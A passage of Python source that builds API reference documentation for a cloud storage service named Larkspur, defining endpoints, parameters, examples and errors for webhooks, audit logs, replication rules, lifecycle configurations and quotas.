                title="Create a webhook",
                method="POST",
                path="/v2/webhooks",
                scope="webhooks:manage",
                summary="""
                Creates a webhook and returns its signing secret, once. Before the webhook is
                saved, Larkspur sends a `ping` event to the URL and expects a `2xx` answer within
                ten seconds; pass `verify: false` to skip that, for example when the receiving
                service is deployed after the webhook is configured. A project can have 20
                webhooks.
            """,
                params=[
                    ("url", "body", "string", "yes", "HTTPS URL, public address, port 443 or 8443."),
                    ("events", "body", "string[]", "yes", 'Event types, or `["*"]`.'),
                    ("description", "body", "string", "no", "Up to 200 characters."),
                    ("filter", "body", "object", "no", '`{"buckets": [...], "key_prefix": "..."}` for object events.'),
                    ("verify", "body", "boolean", "no", "Send a `ping` first. Default `true`."),
                    ("enabled", "body", "boolean", "no", "Default `true`."),
                ],
                body={
                    "url": "https://hooks.example.com/larkspur",
                    "events": ["object.created", "object.deleted"],
                    "description": "Thumbnail generator",
                    "filter": {"buckets": ["media-eu"], "key_prefix": "originals/"},
                },
                status="201 Created",
                response=WEBHOOK_EXAMPLE | {"secret": "whsec_3TqY8vN1mK5xR0cW7bZ2", "last_delivery": None},
                response_note="Returns `201 Created` with the webhook and, this once, its `secret`.",
                errors=[
                    (
                        "400",
                        "webhook_url_not_https",
                        "The URL is not HTTPS or resolves to a private, loopback or link-local address.",
                    ),
                    (
                        "422",
                        "webhook_verification_failed",
                        "The `ping` got no `2xx` answer; the message includes the status or the network error.",
                    ),
                    ("403", "quota_exceeded", "The project has 20 webhooks already."),
                ],
                sdk=(
                    "hook = client.webhooks.create",
                    {
                        "url": "https://hooks.example.com/larkspur",
                        "events": ["object.created", "object.deleted"],
                        "filter": {"buckets": ["media-eu"], "key_prefix": "originals/"},
                    },
                ),
                py_after="""
                secrets.store("LARKSPUR_WEBHOOK_SECRET", hook.secret)
            """,
            ),
            Endpoint(
                title="Update a webhook",
                method="PATCH",
                path="/v2/webhooks/{webhook_id}",
                scope="webhooks:manage",
                summary="""
                Changes the fields you send. Re-enabling a webhook that was disabled for failing
                resets its failure streak, and events that occurred while it was disabled are
                **not** delivered. To rotate the secret, send `rotate_secret: true`; for the next
                24 hours deliveries are signed with both the old and the new secret, so you can
                deploy the new one without dropping events.
            """,
                params=[
                    ("url", "body", "string", "no", "New URL; verified with a `ping` unless `verify` is `false`."),
                    ("events", "body", "string[]", "no", "Replaces the event list."),
                    ("filter", "body", "object", "no", "Replaces the filter."),
                    ("enabled", "body", "boolean", "no", "Enable or disable."),
                    ("rotate_secret", "body", "boolean", "no", "Issue a new secret; the response includes it."),
                ],
                body={"enabled": True, "rotate_secret": True},
                response=WEBHOOK_EXAMPLE | {"secret": "whsec_9LwE2pQ6sD4fJ8hA1kZ5", "secret_prefix": "whsec_9Lw"},
                response_note="Returns `200 OK` with the webhook, plus `secret` if you rotated it.",
                sdk=(
                    "hook = client.webhooks.update",
                    {"webhook_id": "whk_5a0d3f7c9e12", "enabled": True, "rotate_secret": True},
                ),
                layout=0,
            ),
            Endpoint(
                title="Delete a webhook",
                method="DELETE",
                path="/v2/webhooks/{webhook_id}",
                scope="webhooks:manage",
                summary="Deletes a webhook. Deliveries already in their retry schedule are cancelled.",
                params=[
                    ("reason", "query", "string", "no", "Recorded in the audit log."),
                    ("If-Match", "header", "string", "no", "Delete only if unchanged."),
                    (
                        "drain",
                        "query",
                        "boolean",
                        "no",
                        "Let pending retries finish first (up to 24 hours). Default `false`.",
                    ),
                ],
                status="204 No Content",
                response="none",
                sdk=("client.webhooks.delete", {"webhook_id": "whk_b81e20c4d6f3"}),
            ),
            Endpoint(
                title="Send a test event",
                method="POST",
                path="/v2/webhooks/{webhook_id}/test",
                scope="webhooks:manage",
                summary="""
                Delivers a synthetic event of the type you choose, with a realistic payload marked
                `"test": true`, and waits for the result. It is signed with the real secret, so it
                exercises your verification code. Test deliveries are not retried.
            """,
                params=[
                    ("event", "body", "string", "yes", "An event type the webhook is subscribed to."),
                    ("bucket", "body", "string", "no", "Bucket name to use in the payload."),
                    ("key", "body", "string", "no", "Object key to use in the payload."),
                ],
                body={"event": "object.created", "bucket": "media-eu", "key": "originals/test-🚀.jpg"},
                response={
                    "delivery_id": "dlv_c19b7e04a3f8",
                    "status": 200,
                    "duration_ms": 211,
                    "response_body_excerpt": "ok",
                },
                response_note="Returns `200 OK` with the outcome of the delivery, even when the delivery failed.",
                sdk=("result = client.webhooks.test", {"webhook_id": "whk_5a0d3f7c9e12", "event": "object.created"}),
            ),
            Endpoint(
                title="List deliveries",
                method="GET",
                path="/v2/webhooks/{webhook_id}/deliveries",
                scope="webhooks:manage",
                summary="""
                Lists delivery attempts of the last 30 days, newest first, with the status your
                endpoint returned and the first 1 KiB of its response body. Use it to debug a
                handler that fails intermittently.
            """,
                params=[
                    ("status", "query", "string", "no", "`succeeded|failed|pending`."),
                    ("event", "query", "string", "no", "Only this event type."),
                    p_limit("deliveries", 50, 500),
                    p_cursor(),
                ],
                query={"status": "failed", "limit": 1},
                response={
                    "data": [
                        {
                            "id": "dlv_7e20b95c14da",
                            "event_id": "evt_a61c2d09e8b3f547",
                            "event": "object.created",
                            "attempt": 3,
                            "status": 502,
                            "duration_ms": 10000,
                            "error": "timeout after 10 s",
                            "response_body_excerpt": "<html><body><h1>502 Bad Gateway</h1>…",
                            "attempted_at": "2025-02-28T03:00:09.871Z",
                            "next_attempt_at": "2025-02-28T03:30:09.871Z",
                        }
                    ],
                    "has_more": True,
                    "next_cursor": "ZGx2OjIwMjUtMDItMjhUMDM6MDA6MDkuODcxWg",
                },
                response_note="Returns `200 OK` with a page of delivery attempts.",
                sdk=("failed = client.webhooks.deliveries", {"webhook_id": "whk_5a0d3f7c9e12", "status": "failed"}),
            ),
            Endpoint(
                title="Redeliver an event",
                method="POST",
                path="/v2/webhooks/{webhook_id}/deliveries/{delivery_id}/redeliver",
                scope="webhooks:manage",
                summary="""
                Sends the event of a past delivery again, immediately, with a fresh signature.
                Events can be redelivered for 30 days. This is the way to recover events that
                arrived while your handler was broken, after you have fixed it.
            """,
                params=[
                    ("reason", "body", "string", "no", "Recorded in the audit log."),
                    (
                        "to_url",
                        "body",
                        "string",
                        "no",
                        "Deliver to this URL instead, once; must pass the same checks as `url`.",
                    ),
                ],
                status="202 Accepted",
                response={"delivery_id": "dlv_41f8e3a07b9c", "status": "pending"},
                response_note="Returns `202 Accepted` with the new delivery's ID; its result appears in the delivery list.",
                sdk=(
                    "client.webhooks.redeliver",
                    {"webhook_id": "whk_5a0d3f7c9e12", "delivery_id": "dlv_7e20b95c14da"},
                ),
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Audit logs
# --------------------------------------------------------------------------------------------

AUDIT_EXAMPLE = {
    "id": "evt_3e8f1a6c0b94d2e7",
    "type": "object.deleted",
    "occurred_at": "2025-03-04T09:16:40.215Z",
    "actor": {"kind": "api_key", "key_id": "key_2b7e9c41d0a6", "key_prefix": "lk_live_7Qm2", "user_id": None},
    "source": {"ip": "203.0.113.24", "user_agent": "larkspur-python/3.8.1 CPython/3.12.2", "region": "eu-central-1"},
    "resource": {
        "kind": "object",
        "bucket": "media-eu",
        "key": "reports/2025/q3-draft.pdf",
        "version_id": "v_01HQ7Y9W8V7U6T5S",
    },
    "outcome": "success",
    "request_id": "req_5c0b2e9f8a7d6c4b3a21",
}

AUDIT_ACTIONS = [
    ("project.updated", "usr_71c3e8a2f5b0", "project", "prj_4f1c9a0e7b2d"),
    ("key.created", "usr_71c3e8a2f5b0", "key", "key_c45e0a9b8d21"),
    ("key.rotated", "usr_71c3e8a2f5b0", "key", "key_2b7e9c41d0a6"),
    ("bucket.updated", "key_90d5ab1e7c33", "bucket", "media-eu"),
    ("object.created", "key_2b7e9c41d0a6", "object", "media-eu/reports/2025/q3.pdf"),
    ("object.deleted", "key_2b7e9c41d0a6", "object", "media-eu/reports/2025/q3-draft.pdf"),
    ("object.read_denied", "key_90d5ab1e7c33", "object", "invoices/2025/02/inv_2025_02_4f1c9a.pdf"),
    ("user.invited", "usr_71c3e8a2f5b0", "user", "usr_e83b1f07a4c2"),
    ("user.role_changed", "usr_71c3e8a2f5b0", "user", "usr_0a9d4e6b2c81"),
    ("webhook.updated", "usr_0a9d4e6b2c81", "webhook", "whk_5a0d3f7c9e12"),
    ("lifecycle.replaced", "key_90d5ab1e7c33", "bucket", "media-eu"),
    ("replication.paused", "usr_71c3e8a2f5b0", "replication_rule", "rep_6f2a9d0c3b71"),
    ("token.minted", "key_2b7e9c41d0a6", "token", "tok_5b2f9e01c7d8"),
    ("key.revoked", "usr_71c3e8a2f5b0", "key", "key_2b7e9c41d0a6"),
]


def audit_ndjson() -> str:
    lines = []
    for i, (typ, actor, kind, target) in enumerate(AUDIT_ACTIONS):
        minute, second = divmod(7 + i * 41, 60)
        ev = {
            "id": rid("evt_", f"audit-{i}"),
            "type": typ,
            "occurred_at": f"2025-03-04T09:{minute:02d}:{second:02d}.{(i * 137) % 1000:03d}Z",
            "actor": (
                {"kind": "user", "user_id": actor} if actor.startswith("usr_") else {"kind": "api_key", "key_id": actor}
            ),
            "source": {"ip": f"203.0.113.{20 + i % 7}", "region": "eu-central-1"},
            "resource": {"kind": kind, "id": target},
            "outcome": "denied" if typ.endswith("_denied") else "success",
        }
        lines.append(json.dumps(ev, ensure_ascii=False, separators=(",", ":")))
    return "\n".join(lines)


RESOURCES.append(
    Resource(
        title="Audit logs",
        singular="audit event",
        plural="events",
        intro="""
        The audit log records every change to the project and, if you enable data access
        logging, every read of an object. Events are kept for 400 days, are append-only, and
        cannot be deleted by anyone, including project owners; that is what makes them useful as
        evidence. They appear a few seconds after the operation they describe.

        Data access logging is off by default because it is voluminous: a busy bucket produces
        millions of read events a day. Turn it on per bucket in the console, and consider
        exporting the events to a bucket of your own rather than querying them through the API.
    """,
        object_heading="### The audit event object",
        fields=[
            ("id", "string", "Identifier, prefix `evt_`. Events sort by ID in time order within a project."),
            ("type", "string", "What happened, `<resource>.<action>`, for example `key.revoked`."),
            ("occurred_at", "timestamp", "When the operation completed, not when the event was written."),
            (
                "actor",
                "object",
                "Who did it: a user, an API key, a token (with its parent), or `larkspur` for automatic actions such as lifecycle deletions.",
            ),
            ("source", "object", "Client IP, user agent and the region that served the request."),
            ("resource", "object", "What it was done to."),
            ("outcome", "string", "`success`, `denied` or `failed`. Denied requests are logged too."),
            ("request_id", "string", "The request's `Larkspur-Request-Id`."),
        ],
        example=AUDIT_EXAMPLE,
        variant={
            "id": "evt_3e8f1a6c0b94d2f1",
            "type": "object.read_denied",
            "occurred_at": "2025-03-04T09:16:41.002Z",
            "outcome": "denied",
            "resource": {
                "kind": "object",
                "bucket": "invoices",
                "key": "2025/02/inv_2025_02_4f1c9a.pdf",
                "version_id": None,
            },
        },
        endpoints=[
            Endpoint(
                title="List events",
                method="GET",
                path="/v2/audit/events",
                scope="audit:read",
                summary="""
                Lists events, newest first, filtered by time, type, actor and resource. Filters
                combine with AND. Queries spanning more than 31 days are refused, because they are
                slow and because an export does the same job better.
            """,
                params=[
                    ("since", "query", "timestamp", "no", "Events at or after this time. Default: 24 hours ago."),
                    ("until", "query", "timestamp", "no", "Events before this time. Default: now."),
                    ("type", "query", "string", "no", "Event type; a trailing `*` matches a prefix, as in `key.*`."),
                    ("actor", "query", "string", "no", "A user ID, key ID or token ID."),
                    ("bucket", "query", "string", "no", "Only events about this bucket or its objects."),
                    ("outcome", "query", "string", "no", "`success|denied|failed`."),
                    ("ip", "query", "string", "no", "Client IP or CIDR prefix."),
                    p_limit("events", 100, 1000),
                    p_cursor(),
                ],
                query={"actor": "key_2b7e9c41d0a6", "since": "2025-03-04T00:00:00Z", "limit": 2},
                response="list",
                sdk=(
                    "for event in client.audit.events",
                    {"actor": "key_2b7e9c41d0a6", "since": "2025-03-04T00:00:00Z"},
                ),
                py_after="""
                    print(event.occurred_at, event.type, event.source.ip)
            """,
            ),
            Endpoint(
                title="Retrieve an event",
                method="GET",
                path="/v2/audit/events/{event_id}",
                scope="audit:read",
                summary="""
                Returns one event with its `details`, which list lists omit: for changes, the old
                and new values of every changed field (secrets are never included); for denied
                requests, the rule that denied them.
            """,
                params=[
                    p_fields(),
                    ("include_details", "query", "boolean", "no", "Default `true`."),
                    ("redact_ip", "query", "boolean", "no", "Replace the client IP with its /24 (IPv4) or /48 (IPv6)."),
                ],
                response=AUDIT_EXAMPLE
                | {"details": {"deleted_size": 2471133, "deleted_etag": '"7de1a09c33f2b845"', "versioned": True}},
                response_note="Returns `200 OK` with the event and its `details`.",
                sdk=("event = client.audit.get", {"event_id": "evt_3e8f1a6c0b94d2e7"}),
            ),
            Endpoint(
                title="Export events to a bucket",
                method="POST",
                path="/v2/audit/exports",
                scope="audit:read",
                summary="""
                Starts an export of events in a time range to a bucket in the same project, as
                gzip-compressed newline-delimited JSON, one file per hour of events. Exports of a
                day finish in minutes; a full 400 days can take a few hours. Each file ends up as an
                ordinary object and is billed as one. For a continuous feed, create a standing
                export with `continuous: true`, which writes each hour's file about ten minutes
                after the hour ends.
            """,
                params=[
                    ("since", "body", "timestamp", "yes", "Start of the range."),
                    ("until", "body", "timestamp", "no", "End of the range. Required unless `continuous`."),
                    ("bucket", "body", "string", "yes", "Destination bucket, in the same project."),
                    ("prefix", "body", "string", "no", "Key prefix for the files. Default `audit/`."),
                    ("types", "body", "string[]", "no", "Only these event types; prefixes with `*` allowed."),
                    ("continuous", "body", "boolean", "no", "Keep exporting new hours until deleted."),
                ],
                body={
                    "since": "2025-02-01T00:00:00Z",
                    "until": "2025-03-01T00:00:00Z",
                    "bucket": "security-logs",
                    "prefix": "larkspur/audit/",
                },
                status="202 Accepted",
                response={
                    "id": "exp_09d4c7b1e2f6",
                    "state": "running",
                    "files_written": 0,
                    "bucket": "security-logs",
                    "prefix": "larkspur/audit/",
                    "since": "2025-02-01T00:00:00.000Z",
                    "until": "2025-03-01T00:00:00.000Z",
                },
                response_note="Returns `202 Accepted` with the export, which you can poll with the next endpoint.",
                errors=[
                    ("400", "export_range_invalid", "`until` is before `since`, or `since` is older than 400 days.")
                ],
                sdk=(
                    "export = client.audit.export",
                    {"since": "2025-02-01T00:00:00Z", "until": "2025-03-01T00:00:00Z", "bucket": "security-logs"},
                ),
                extra="""
                ##### What an export file contains

                Each line is one event in the same format as the API returns, minified. The
                excerpt below is a decompressed hour from a quiet project; a busy one has hundreds
                of thousands of lines per file.

                ```jsonl
                """
                + audit_ndjson().replace("\n", "\n                ")
                + """
                ```

                ###### Loading exports into a warehouse

                Most warehouses read gzip NDJSON directly. Partition on the hour in the key
                (`larkspur/audit/2025/03/04/09.ndjson.gz`), and treat `id` as the unique key: the
                same event can appear in two consecutive files if it was written near the end of
                an hour.
            """,
                layout=1,
            ),
            Endpoint(
                title="Check an export",
                method="GET",
                path="/v2/audit/exports/{export_id}",
                scope="audit:read",
                summary="Returns the state of an export and how many files it has written so far.",
                params=[
                    p_fields(),
                    (
                        "wait",
                        "query",
                        "integer",
                        "no",
                        "Long-poll: hold the request up to this many seconds (max 30) until the state changes.",
                    ),
                    ("include_files", "query", "boolean", "no", "List the keys written so far."),
                ],
                query={"wait": 30},
                response={
                    "id": "exp_09d4c7b1e2f6",
                    "state": "succeeded",
                    "files_written": 672,
                    "bytes_written": 83188201,
                    "bucket": "security-logs",
                    "prefix": "larkspur/audit/",
                    "finished_at": "2025-03-04T09:41:07.330Z",
                },
                response_note="Returns `200 OK` with the export; `state` is `running`, `succeeded` or `failed`.",
                sdk=("export.wait", {"timeout": 3600}),
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Replication
# --------------------------------------------------------------------------------------------

REPLICATION_EXAMPLE = {
    "id": "rep_6f2a9d0c3b71",
    "source_bucket": "media-eu",
    "destination": {"project_id": "prj_4f1c9a0e7b2d", "bucket": "media-us-dr", "region": "us-east-2"},
    "filter": {"key_prefix": "originals/", "min_size": 0},
    "replicate_deletes": False,
    "storage_class": "infrequent",
    "state": "active",
    "backfill": {"state": "completed", "objects_copied": 1204877, "bytes_copied": 702114558841},
    "lag": {"p50_seconds": 3, "p99_seconds": 41, "pending_objects": 18},
    "created_at": "2024-02-01T10:00:00.000Z",
}

RESOURCES.append(
    Resource(
        title="Replication",
        singular="replication rule",
        plural="replication rules",
        intro="""
        A replication rule copies new and changed objects from a source bucket to a destination
        bucket in another region, asynchronously, usually within seconds. The destination can be
        in the same project or, with the destination owner's consent, in another project of the
        same organization. Use it for disaster recovery, or to bring data close to readers on
        another continent.

        Replication requires versioning on both buckets, so that an older version arriving late
        can never overwrite a newer one. Each source bucket can have up to five rules, and a
        bucket can be a destination for any number of them, but replication never chains: an
        object that arrived in a bucket by replication is not replicated onward from it.
    """,
        object_heading="### The replication rule object",
        fields=[
            ("id", "string", "Identifier, prefix `rep_`."),
            ("source_bucket", "string", "Bucket objects are copied from."),
            ("destination", "object", "`project_id`, `bucket` and, read-only, `region`."),
            (
                "filter",
                "object",
                "Optional `key_prefix`, `min_size` and `max_size`; objects outside it are not copied.",
            ),
            (
                "replicate_deletes",
                "boolean",
                "Whether delete markers are replicated. Deleting a version by ID is never replicated.",
            ),
            ("storage_class", "string", "Class of the copies; `null` keeps the source's class."),
            ("state", "string", "`active`, `paused` or `failing`."),
            ("backfill", "object", "Progress of copying objects that existed before the rule."),
            ("lag", "object", "Replication delay percentiles over the last hour, and objects waiting."),
            ("created_at", "timestamp", "Creation time."),
        ],
        example=REPLICATION_EXAMPLE,
        variant={
            "id": "rep_0c8e4b7a2d95",
            "destination": {"project_id": "prj_4f1c9a0e7b2d", "bucket": "media-apac", "region": "ap-northeast-1"},
            "filter": {"key_prefix": "published/", "min_size": 0},
            "storage_class": None,
            "backfill": {"state": "running", "objects_copied": 88120, "bytes_copied": 31870444120},
            "lag": {"p50_seconds": 5, "p99_seconds": 212, "pending_objects": 3307},
            "created_at": "2025-02-20T06:30:00.000Z",
        },
        endpoints=[
            Endpoint(
                title="List replication rules",
                method="GET",
                path="/v2/buckets/{bucket}/replication",
                scope="buckets:manage",
                summary="Lists the rules whose source is this bucket, with their current lag.",
                params=[
                    ("state", "query", "string", "no", "`active|paused|failing`."),
                    ("destination_region", "query", "string", "no", "Only rules replicating to this region."),
                    p_fields(),
                ],
                response="list",
                sdk=("rules = client.replication.list", {"bucket": "media-eu"}),
                py_after="""
                worst = max(rules, key=lambda r: r.lag.p99_seconds)
            """,
            ),
            Endpoint(
                title="Create a replication rule",
                method="POST",
                path="/v2/buckets/{bucket}/replication",
                scope="buckets:manage",
                summary="""
                Creates a rule. From that moment, new writes are replicated. Objects that already
                exist are copied only if you ask for a `backfill`, which runs in the background
                at a rate that does not affect your own traffic and is billed as replication
                transfer. For a bucket of a few terabytes, expect the backfill to take a day.
            """,
                params=[
                    ("destination", "body", "object", "yes", '`{"bucket": …}`, plus `project_id` for another project.'),
                    ("filter", "body", "object", "no", "`key_prefix`, `min_size`, `max_size`."),
                    ("replicate_deletes", "body", "boolean", "no", "Default `false`."),
                    ("storage_class", "body", "string", "no", "Class of the copies."),
                    ("backfill", "body", "boolean", "no", "Copy existing objects too. Default `false`."),
                ],
                body={
                    "destination": {"bucket": "media-us-dr"},
                    "filter": {"key_prefix": "originals/"},
                    "storage_class": "infrequent",
                    "backfill": True,
                },
                status="201 Created",
                response=REPLICATION_EXAMPLE
                | {"backfill": {"state": "queued", "objects_copied": 0, "bytes_copied": 0}, "lag": None},
                response_note="Returns `201 Created` with the rule.",
                errors=[
                    (
                        "409",
                        "versioning_required",
                        "Versioning is not enabled on the source or the destination bucket.",
                    ),
                    ("400", "same_region_replication", "The destination is in the same region as the source."),
                    (
                        "403",
                        "destination_consent_required",
                        "The destination is in another project whose owners have not allowed replication from this one.",
                    ),
                    ("409", "replication_loop", "The destination already replicates into the source."),
                ],
                sdk=(
                    "rule = client.replication.create",
                    {"bucket": "media-eu", "destination": "media-us-dr", "key_prefix": "originals/", "backfill": True},
                ),
            ),
            Endpoint(
                title="Retrieve a rule and its status",
                method="GET",
                path="/v2/buckets/{bucket}/replication/{rule_id}",
                scope="buckets:manage",
                summary="""
                Returns one rule. A rule in state `failing` has objects that could not be copied
                for more than an hour; `include=failures` lists up to 100 of them with the reason,
                which is almost always a destination bucket that was deleted, made read-only by a
                retention setting, or moved to a project the rule can no longer write to.
            """,
                params=[
                    ("include", "query", "string", "no", "`failures` to list failing objects."),
                    p_fields(),
                    ("If-None-Match", "header", "string", "no", "Answers `304` if unchanged."),
                ],
                sdk=(
                    "rule = client.replication.get",
                    {"bucket": "media-eu", "rule_id": "rep_6f2a9d0c3b71", "include": ["failures"]},
                ),
                py_after="""
                for failure in rule.failures:
                    print(failure.key, failure.reason)
            """,
            ),
            Endpoint(
                title="Pause or resume a rule",
                method="PATCH",
                path="/v2/buckets/{bucket}/replication/{rule_id}",
                scope="buckets:manage",
                summary="""
                Pauses or resumes a rule, or changes its filter and storage class. While a rule is
                paused, writes to the source are queued for up to 14 days and replicated when it
                resumes; after 14 days the queue is dropped and you need a backfill to catch up.
            """,
                params=[
                    ("state", "body", "string", "no", "`active` or `paused`."),
                    ("filter", "body", "object", "no", "Replaces the filter; applies to new writes only."),
                    ("storage_class", "body", "string", "no", "Applies to new copies only."),
                    ("If-Match", "header", "string", "no", "Update only if unchanged."),
                ],
                body={"state": "paused"},
                sdk=(
                    "client.replication.update",
                    {"bucket": "media-eu", "rule_id": "rep_6f2a9d0c3b71", "state": "paused"},
                ),
                layout=2,
            ),
            Endpoint(
                title="Delete a replication rule",
                method="DELETE",
                path="/v2/buckets/{bucket}/replication/{rule_id}",
                scope="buckets:manage",
                summary="""
                Deletes the rule. Copies already made stay in the destination; nothing is deleted
                there. Queued writes are dropped.
            """,
                params=[
                    ("reason", "query", "string", "no", "Recorded in the audit log."),
                    ("If-Match", "header", "string", "no", "Delete only if unchanged."),
                ],
                status="204 No Content",
                response="none",
                sdk=("client.replication.delete", {"bucket": "media-eu", "rule_id": "rep_0c8e4b7a2d95"}),
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Lifecycle rules
# --------------------------------------------------------------------------------------------

LIFECYCLE_CONFIG = {
    "rules": [
        {"id": "expire-tmp", "enabled": True, "filter": {"key_prefix": "tmp/"}, "expiration": {"days": 2}},
        {
            "id": "thumbnails-to-infrequent",
            "enabled": True,
            "filter": {"key_prefix": "thumbnails/", "min_size": 131072},
            "transitions": [{"days": 30, "storage_class": "infrequent"}],
        },
        {
            "id": "originals-archive",
            "enabled": True,
            "filter": {"key_prefix": "originals/", "tags": {"retain": "long"}},
            "transitions": [{"days": 90, "storage_class": "infrequent"}, {"days": 365, "storage_class": "archive"}],
        },
        {
            "id": "noncurrent-cleanup",
            "enabled": True,
            "filter": {},
            "noncurrent_version_expiration": {"days": 14, "keep_newest": 3},
        },
        {"id": "abandoned-uploads", "enabled": True, "filter": {}, "abort_incomplete_uploads_after_days": 1},
        {"id": "expired-delete-markers", "enabled": False, "filter": {}, "expired_delete_markers": True},
    ],
}

RESOURCES.append(
    Resource(
        title="Lifecycle rules",
        singular="lifecycle configuration",
        plural="lifecycle configurations",
        intro="""
        Lifecycle rules delete objects, move them to cheaper storage classes, and clean up
        non-current versions and abandoned uploads, automatically, once a day. A bucket has one
        lifecycle *configuration* holding up to 100 rules, and it is read and written as a
        whole: there is no endpoint to add a single rule, because rules interact and a partial
        update could leave a bucket in a state nobody intended.

        Rules run daily, starting around 00:00 UTC in the bucket's region, and act on objects
        whose age, counted in whole days from `created_at`, has reached the rule's threshold. An
        object written at 23:59 is one day old a minute later. Deletions by lifecycle are free,
        are recorded in the audit log with actor `larkspur`, and send `object.deleted` events
        only if the webhook subscribes to `lifecycle.completed` as well, because otherwise a
        large expiry can flood a receiver with millions of events.

        > **Warning**
        > A rule with an empty filter matches every object in the bucket. Preview a configuration
        > before you apply it; see [Preview a configuration](#preview-a-configuration).
    """,
        object_heading="### The `lifecycle` configuration",
        fields=[
            ("rules[].id", "string", "Your name for the rule, unique in the configuration."),
            ("rules[].enabled", "boolean", "Disabled rules are kept but do nothing."),
            (
                "rules[].filter",
                "object",
                "`key_prefix`, `tags` (all must match), `min_size`, `max_size`. Empty matches all.",
            ),
            (
                "rules[].expiration",
                "object",
                "`days` or `date`: delete current objects (adds a delete marker when versioned).",
            ),
            ("rules[].transitions", "object[]", "`days` and `storage_class`, in increasing order of days."),
            (
                "rules[].noncurrent_version_expiration",
                "object",
                "`days` after becoming non-current; `keep_newest` versions are always kept.",
            ),
            ("rules[].abort_incomplete_uploads_after_days", "integer", "Abort multipart uploads older than this."),
            ("rules[].expired_delete_markers", "boolean", "Remove delete markers that no longer hide any version."),
        ],
        example=LIFECYCLE_CONFIG,
        endpoints=[
            Endpoint(
                title="Get the lifecycle configuration",
                method="GET",
                path="/v2/buckets/{bucket}/lifecycle",
                scope="objects:read",
                summary="""
                Returns the bucket's configuration and its `ETag`. A bucket without one answers
                `404 lifecycle_not_configured`, not an empty list, so that a script can tell "no
                rules" from "rules that match nothing".
            """,
                params=[
                    ("If-None-Match", "header", "string", "no", "Answers `304` if unchanged."),
                    ("include_last_run", "query", "boolean", "no", "Add the time and counts of the last daily run."),
                    ("format", "query", "string", "no", "`json` (default) or `yaml`."),
                ],
                response=LIFECYCLE_CONFIG
                | {
                    "last_run": {
                        "finished_at": "2025-03-04T00:42:17.000Z",
                        "expired": 48211,
                        "transitioned": 1937,
                        "noncurrent_expired": 10553,
                        "uploads_aborted": 4,
                    }
                },
                response_note="Returns `200 OK` with the configuration, here with `include_last_run=true`.",
                errors=[("404", "lifecycle_not_configured", "The bucket has no lifecycle configuration.")],
                sdk=("config = client.lifecycle.get", {"bucket": "media-eu"}),
                py_after="""
                print([rule.id for rule in config.rules if rule.enabled])
            """,
                headers_only=True,
            ),
            Endpoint(
                title="Replace the lifecycle configuration",
                method="PUT",
                path="/v2/buckets/{bucket}/lifecycle",
                scope="buckets:manage",
                summary="""
                Replaces the configuration as a whole. The new rules take effect at the next daily
                run; nothing happens immediately. Validation is strict and reports every problem it
                finds, not just the first: overlapping transitions, a transition to a class that
                the region does not offer (`archive` in `ap-northeast-1`), expirations shorter
                than a transition in the same rule, and duplicate IDs.

                To change one rule safely, read the configuration, edit it, and write it back
                with `If-Match` set to the `ETag` you read.
            """,
                params=[
                    ("rules", "body", "object[]", "yes", "Up to 100 rules; see the configuration above."),
                    ("If-Match", "header", "string", "no", "Strongly recommended; see above."),
                    ("Content-Type", "header", "string", "no", "`application/json` or `application/yaml`."),
                    ("dry_run", "query", "boolean", "no", "Validate only; store nothing."),
                ],
                body=LIFECYCLE_CONFIG,
                response={"etag": '"lc-5-0e7d21"', "rules": 6, "effective_from": "2025-03-05T00:00:00.000Z"},
                response_note="Returns `200 OK` with the new entity tag and the time of the first run that will use it.",
                errors=[
                    (
                        "400",
                        "invalid_lifecycle_configuration",
                        "One or more rules are invalid; `details` lists each problem with a JSON pointer to it.",
                    ),
                    ("412", "precondition_failed", "The configuration changed since you read it."),
                    (
                        "422",
                        "storage_class_unavailable",
                        "A transition targets a class the bucket's region does not offer.",
                    ),
                ],
                python="""
                config = client.lifecycle.get("media-eu")
                rule = config.rule("thumbnails-to-infrequent")
                rule.transitions[0].days = 45
                client.lifecycle.put("media-eu", config, if_match=config.etag)
            """,
                layout=0,
            ),
            Endpoint(
                title="Delete the lifecycle configuration",
                method="DELETE",
                path="/v2/buckets/{bucket}/lifecycle",
                scope="buckets:manage",
                summary="Removes every rule. Objects already deleted or transitioned stay that way.",
                params=[
                    ("If-Match", "header", "string", "no", "Delete only if unchanged."),
                    ("reason", "query", "string", "no", "Recorded in the audit log."),
                    (
                        "keep_upload_cleanup",
                        "query",
                        "boolean",
                        "no",
                        "Keep a single rule aborting uploads after 7 days. Default `false`.",
                    ),
                ],
                status="204 No Content",
                response="none",
                sdk=("client.lifecycle.delete", {"bucket": "media-eu-old"}),
            ),
            Endpoint(
                title="Preview a configuration",
                method="POST",
                path="/v2/buckets/{bucket}/lifecycle/preview",
                scope="objects:read",
                summary="""
                Evaluates a configuration, stored or proposed, against the bucket as it is now and
                reports what the next run would do, with up to 20 sample keys per rule. Nothing is
                changed. Previews of large buckets are computed from the daily inventory, so they
                may be up to a day out of date; the response says when the inventory was taken.
            """,
                params=[
                    ("rules", "body", "object[]", "no", "Configuration to evaluate. Default: the stored one."),
                    (
                        "as_of",
                        "body",
                        "date",
                        "no",
                        "Evaluate as if the run happened on this day, up to 400 days ahead.",
                    ),
                    ("samples", "body", "integer", "no", "Sample keys per rule, 0 to 20. Default 5."),
                ],
                body={"as_of": "2025-04-01", "samples": 2},
                response={
                    "inventory_at": "2025-03-04T02:10:00.000Z",
                    "as_of": "2025-04-01",
                    "rules": [
                        {
                            "id": "expire-tmp",
                            "objects": 51230,
                            "bytes": 7718203991,
                            "action": "expire",
                            "samples": ["tmp/render-0001.png", "tmp/render-0002.png"],
                        },
                        {
                            "id": "thumbnails-to-infrequent",
                            "objects": 20877,
                            "bytes": 9004112773,
                            "action": "transition:infrequent",
                            "samples": ["thumbnails/2025/02/0a/1c9e.jpg", "thumbnails/2025/02/0a/2f41.jpg"],
                        },
                    ],
                },
                response_note="Returns `200 OK` with the effect of each rule that would act.",
                sdk=("preview = client.lifecycle.preview", {"bucket": "media-eu", "as_of": "2025-04-01"}),
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Quotas
# --------------------------------------------------------------------------------------------

QUOTAS = [
    ("buckets_per_project", "1,000", "10,000", "Buckets in the project."),
    ("bytes_stored", "100 TiB", "none", "Stored bytes across all buckets, including non-current versions."),
    ("api_keys_per_project", "200", "1,000", "Active and rotating keys."),
    ("webhooks_per_project", "20", "100", "Webhooks, enabled or not."),
